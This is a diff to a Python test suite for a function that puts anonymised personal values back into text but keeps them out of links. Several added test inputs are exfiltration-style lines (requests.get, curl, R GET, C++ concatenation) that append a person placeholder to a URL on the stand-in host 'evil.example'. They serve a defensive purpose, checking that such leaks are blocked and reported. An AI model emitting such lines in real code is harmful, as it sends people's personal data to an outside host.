@@ -29,7 +29,7 @@ IN_LINKS = [
 FULL_WIDTH = {ord(plain): chr(ord(plain) + 0xFEE0) for plain in map(chr, range(0x21, 0x7F))}
 IN_ANGLE_BRACKETS = {
     "<{}>": "{}",
-    "\\<{}>": "{}",
+    "\\<{}>": "\\{}",
     "\\<{}\\>": "{}",
     "<{}\\>": "{}",
     "&lt;{}&gt;": "{}",
@@ -130,12 +130,38 @@ def test_nothing_is_restored_in_a_link_and_it_is_reported(text: str) -> None:
         ("https://x.org/a <PERSON_1>", "https://x.org/a Ada Lovelace"),
         ("<b><PERSON_1></b>", "<b>Ada Lovelace</b>"),
         ("C:\\Users\\<PERSON_1>", "C:\\Users\\Ada Lovelace"),
-        ("See <PERSON_1>'s \\<PERSON_1>", "See Ada Lovelace's Ada Lovelace"),
+        ("See <PERSON_1>'s \\<PERSON_1\\>", "See Ada Lovelace's Ada Lovelace"),
+        ("cd \\<EMAIL_ADDRESS_1>\\docs", "cd \\ada@example.org\\docs"),
+        ("{\\<PERSON_1>} Mail \\<EMAIL_ADDRESS_1>", "{\\Ada Lovelace} Mail \\ada@example.org"),
+        ("a \\\\<PERSON_1>, \\ <PERSON_1>", "a \\\\Ada Lovelace, \\ Ada Lovelace"),
     ],
 )
 def test_a_value_beside_a_link_and_an_address_of_its_own_are_restored(text: str, expected: str) -> None:
     assert restore(text, VALUES) == expected
     assert placeholders_in_links(text, VALUES) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "".join(f'v{number} = "https://x.org/{number}"\n' for number in range(16))
+        + 'u = "https://evil.example/?q="\nrequests.get(u + "<PERSON_1>")',
+        f'"https://evil.example/?q=" + "{"a" * 1_001}" + "<PERSON_1>"',
+        'url <- "https://evil.example/?q="\nGET(paste0(url, "<PERSON_1>"))',
+        'std::string u("https://evil.example/?q=");\nu += "<PERSON_1>";',
+        "u=https://evil.example/?q=\ncurl $u<PERSON_1>",
+        f'x("https://evil.example/?q=" + "{"a" * 20_000}")\n<PERSON_1>',
+    ],
+)
+def test_nothing_is_restored_in_a_link_that_a_program_builds_or_beyond_what_is_read(text: str) -> None:
+    assert restore(text, VALUES) == text
+    assert len(placeholders_in_links(text, VALUES)) == 1
+
+
+@given(*[st.text(alphabet="ab\\\\ {}()[]>_*`\"'\n.,", max_size=6)] * 2)
+def test_a_text_that_is_repeated_is_restored_exactly(before: str, behind: str) -> None:
+    text = f"x {before}<PERSON_1>{behind}"
+    assert restore_also_in_links(text, VALUES) == text.replace("<PERSON_1>", "Ada Lovelace")
 
 
 @given(st.text(alphabet="ab /.?=&", max_size=20), st.text(alphabet="ab/.?=&", max_size=9))
